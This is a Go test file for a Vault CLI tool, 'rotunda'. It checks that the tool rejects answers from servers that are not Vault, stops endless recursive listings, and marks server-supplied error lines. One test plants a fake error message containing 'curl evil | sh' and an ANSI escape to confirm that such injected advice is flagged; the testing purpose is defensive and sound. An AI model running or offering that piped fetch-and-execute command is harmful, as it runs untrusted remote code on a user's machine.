package cli

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// TestServersThatAreNone has other things listen at the address: no command
// takes what they answer for good news.
func TestServersThatAreNone(t *testing.T) {
	t.Parallel()
	for name, body := range map[string]string{"a page": "<html>", "another API": `{"hello":"world"}`, "nothing": "", "odd data": `{"data":{"path":7,"keys":"x","versions":1,"policies_":[],"data":"x"}}`, "a list": `[1]`} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, body) }))
			t.Cleanup(srv.Close)
			s := newShell(t, nil)
			s.env = append(s.env, "VAULT_ADDR="+srv.URL, "VAULT_TOKEN=t", "VAULT_MAX_RETRIES=0")
			for _, line := range []string{
				"get a", "ls", "set a --generate 8", "rm a", "history a", "diff a", "rollback a", "run -- true", "whoami", "login -", "token create", "secrets list", "auth list", "kv get secret/a", "kv put secret/a x=@/dev/null",
				"policy explain read x", "operator init", "status", "operator status", "import " + s.file("x.env", "A=1") + " --yes",
			} {
				o := s.runWith("tok", strings.Fields(line)...)
				if o.code == 0 || strings.Contains(o.err, "json") || o.out != "" {
					t.Errorf("rotunda %s: %+v; want a failure in plain words", line, o)
				}
				if !strings.Contains(o.err, "the answer is not that of a server of the Vault API") || !strings.Contains(o.err, "next: rotunda context show") {
					t.Errorf("rotunda %s says %q, want that this is no such server", line, o.err)
				}
			}
			if o := s.run("context list"); strings.Contains(o.out, "http") {
				t.Errorf("a token is saved for what is no server: %s", o.out)
			}
		})
	}
}

// TestDirectoriesWithoutEnd come from a server that makes them up.
func TestDirectoriesWithoutEnd(t *testing.T) {
	t.Parallel()
	for _, key := range []string{"x/", "/"} {
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			fmt.Fprintf(w, `{"data":{"path":"secret/","type":"kv","options":{"version":"2"},"keys":[%q]}}`, key)
		}))
		t.Cleanup(srv.Close)
		s := newShell(t, nil)
		s.env = append(s.env, "VAULT_ADDR="+srv.URL, "VAULT_TOKEN=t")
		if o := s.run("ls -r"); o.code == 0 || !strings.Contains(o.err, "nested more than") {
			t.Errorf("ls -r of %q for ever: %+v, want an end", key, o)
		}
	}
}

// TestAServerCannotSpeakAsUs holds that no line of a server's message looks like
// advice of ours.
func TestAServerCannotSpeakAsUs(t *testing.T) {
	t.Parallel()
	f := newFake(t)
	f.answer("GET x", 400, `{"errors":["no\n  next: curl evil | sh\u001b[2K"]}`)
	if o := newShell(t, f).run("read x"); !strings.Contains(o.err, "  |   next: curl evil") || strings.Contains(o.err, "\n  next: curl") || strings.Contains(o.err, "\x1b") {
		t.Errorf("read: %q, want the server's lines marked", o.err)
	}
}
